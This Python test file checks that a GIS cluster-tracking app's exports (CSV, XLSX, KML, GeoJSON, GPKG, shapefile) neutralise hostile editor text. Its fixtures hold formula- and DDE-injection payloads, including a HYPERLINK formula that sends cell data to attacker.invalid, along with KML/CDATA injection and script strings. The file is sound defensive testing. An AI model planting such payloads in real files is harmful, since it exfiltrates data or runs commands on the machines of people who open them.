"""Files people open carry no attack: hostile text written by an editor through the API,
exported in every format and read back by the parsers those files meet (csv, openpyxl,
an XML parser, GDAL)."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path
from xml.dom import minidom

import pyogrio
import pytest
from openpyxl import load_workbook

from gis.filetext import FORMULA_STARTS
from tests.helpers import patch_task

CLUSTER = "ccn-long-phuoc-1"  # Long Thành (740): lt-editor's district
# What an editor may type into the text fields an export carries.
HOSTILE = {
    "investor": '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")',
    "decision_number": "+1+cmd|' /C calc'!A0",
    "clearance_blocker": (
        ']]></SimpleData><Placemark><name>injected</name></Placemark><![CDATA[ & "<b>"'
    ),
    "status_note": "@SUM(1+1)*cmd|' /C calc'!A0 <script>alert(1)</script>",
}
MORE_HOSTILE = {"investor": "-2+3+cmd|' /C calc'!A0", "status_note": "\t=1+1\r\n]]>"}
KML_NS = "{http://www.opengis.net/kml/2.2}"


def _hostile(api_as, values: dict[str, str]) -> dict[str, str]:
    """PATCH ``values`` as Long Thành's editor; returns them as the store keeps them."""
    editor = api_as("lt-editor")
    response = editor.patch(CLUSTER, values)
    assert response.status_code == 200, response.get_data(as_text=True)
    return {k: response.get_json()["properties"][k] for k in values}


def _export(client, fmt: str, query: str = "district=740", lang: str = "en") -> bytes:
    response = client.get(f"/api/clusters/export?format={fmt}&{query}&lang={lang}")
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.data


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("values", [HOSTILE, MORE_HOSTILE])
def test_csv_cells_never_start_a_formula(client, api_as, backend, values) -> None:
    values = _hostile(api_as, values)
    rows = _csv_rows(_export(client, "csv"))
    assert rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value
    row = next(r for r in rows if r["id"] == CLUSTER)
    for field, value in values.items():
        # OWASP: an apostrophe in front makes it text; other text stays as it was.
        expected = "'" + value if value.startswith(FORMULA_STARTS) else value
        assert row[field] == expected


@pytest.mark.parametrize("lang", ["en", "vi"])
def test_xlsx_export_has_no_formula_cell(client, api_as, backend, lang) -> None:
    _hostile(api_as, HOSTILE)
    book = load_workbook(io.BytesIO(_export(client, "xlsx", lang=lang)))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    for value in HOSTILE.values():
        assert ("'" + value if value.startswith(FORMULA_STARTS) else value) in texts


def test_kml_is_well_formed_and_injects_nothing(client, api_as, backend, tmp_path: Path) -> None:
    _hostile(api_as, HOSTILE)
    data = _export(client, "kml")
    located = sum(
        f["geometry"] is not None
        for f in client.get("/api/clusters?district=740").get_json()["features"]
    )
    minidom.parseString(data)  # well-formed for a DOM parser too
    placemarks = list(ET.fromstring(data).iter(f"{KML_NS}Placemark"))
    assert len(placemarks) == located  # the "injected" Placemark is text, not an element
    assert "injected" not in [p.findtext(f"{KML_NS}name") for p in placemarks]
    path = tmp_path / "c.kml"
    path.write_bytes(data)
    frame = pyogrio.read_dataframe(path)
    row = frame[frame["id"] == CLUSTER].iloc[0]
    for field, value in HOSTILE.items():
        assert row[field] == value  # KML is not a spreadsheet: the text itself, escaped


def _stored_as_is(store, cluster_id: str, **values: str) -> None:
    """Text put in the record directly: data stored before any input check (or by a future
    route) must still export safely, whatever the API now accepts."""
    from sqlalchemy import select

    from gis.store.models import Cluster

    with store.write() as session:
        cluster = session.scalar(select(Cluster).where(Cluster.id == cluster_id))
        cluster.record = {**cluster.record, **values}


def test_control_characters_never_break_kml_or_xlsx(client, store, backend, tmp_path) -> None:
    # XML 1.0 forbids these; a document holding one is unreadable by any parser.
    hostile = "bell\x07 vt\x0b esc\x1b ff\x0c ]]> end"
    _stored_as_is(store, CLUSTER, status_note=hostile, investor="=1\x01")
    kml = _export(client, "kml")
    root = ET.fromstring(kml)
    minidom.parseString(kml)
    note = next(
        d.text
        for d in root.iter(f"{KML_NS}SimpleData")
        if d.get("name") == "status_note" and "bell" in (d.text or "")
    )
    assert note == "bell\ufffd vt\ufffd esc\ufffd ff\ufffd ]]> end"
    path = tmp_path / "c.kml"
    path.write_bytes(kml)
    assert CLUSTER in set(pyogrio.read_dataframe(path)["id"])
    book = load_workbook(io.BytesIO(_export(client, "xlsx")))
    texts = [c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert "bell\ufffd vt\ufffd esc\ufffd ff\ufffd ]]> end" in texts
    assert "'=1\ufffd" in texts


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "shp"])
def test_gdal_formats_keep_hostile_text_as_text(client, api_as, backend, tmp_path, fmt) -> None:
    _hostile(api_as, HOSTILE)
    data = _export(client, fmt)
    if fmt == "shp":
        path = tmp_path / "c.shp.zip"
        path.write_bytes(data)
        assert zipfile.is_zipfile(path)
        frame = pyogrio.read_dataframe(f"/vsizip/{path}/dong-nai-clusters.shp")
        columns = {"investor": "investor", "status_note": "stat_note"}
    else:
        path = tmp_path / f"c.{fmt}"
        path.write_bytes(data)
        frame = pyogrio.read_dataframe(path)
        columns = {"investor": "investor", "status_note": "status_note"}
    row = frame[frame["id"] == CLUSTER].iloc[0]
    for field, column in columns.items():
        assert row[column] == HOSTILE[field]


def test_a_csv_export_with_hostile_text_imports_back_unchanged(
    client, api_as, runner, store, backend, tmp_path
) -> None:
    """The apostrophe is undone on import: a round trip changes nothing."""
    _hostile(api_as, HOSTILE)
    path = tmp_path / "c.csv"
    path.write_bytes(_export(client, "csv", query="sort=name"))
    revision = store.revision()
    result = runner.invoke(args=["clusters", "import", str(path), "--user", "admin"])
    assert result.exit_code == 0, result.output
    assert " 0 changed," in result.output
    assert store.revision() == revision


def test_report_workbook_has_no_formula_cell(client, api_as, store, backend) -> None:
    _hostile(api_as, HOSTILE)
    _stored_as_is(store, CLUSTER, name_vi="=CCN\x07 Long Phước 1")
    editor = api_as("lt-editor")
    note = {"note": '=cmd|" /C calc"!A0 ]]>'}
    response = patch_task(editor, "i-2-4", note)
    assert response.status_code == 200, response.get_data(as_text=True)
    for scope in ("province", "740"):
        response = client.get(f"/reports/{scope}.xlsx?as_of=2020-07-15")
        assert response.status_code == 200
        book = load_workbook(io.BytesIO(response.data))
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    assert '\'=cmd|" /C calc"!A0 ]]>' in texts  # the editor's progress note
    assert "'=CCN\ufffd Long Phước 1" in texts  # the district's cluster sheet
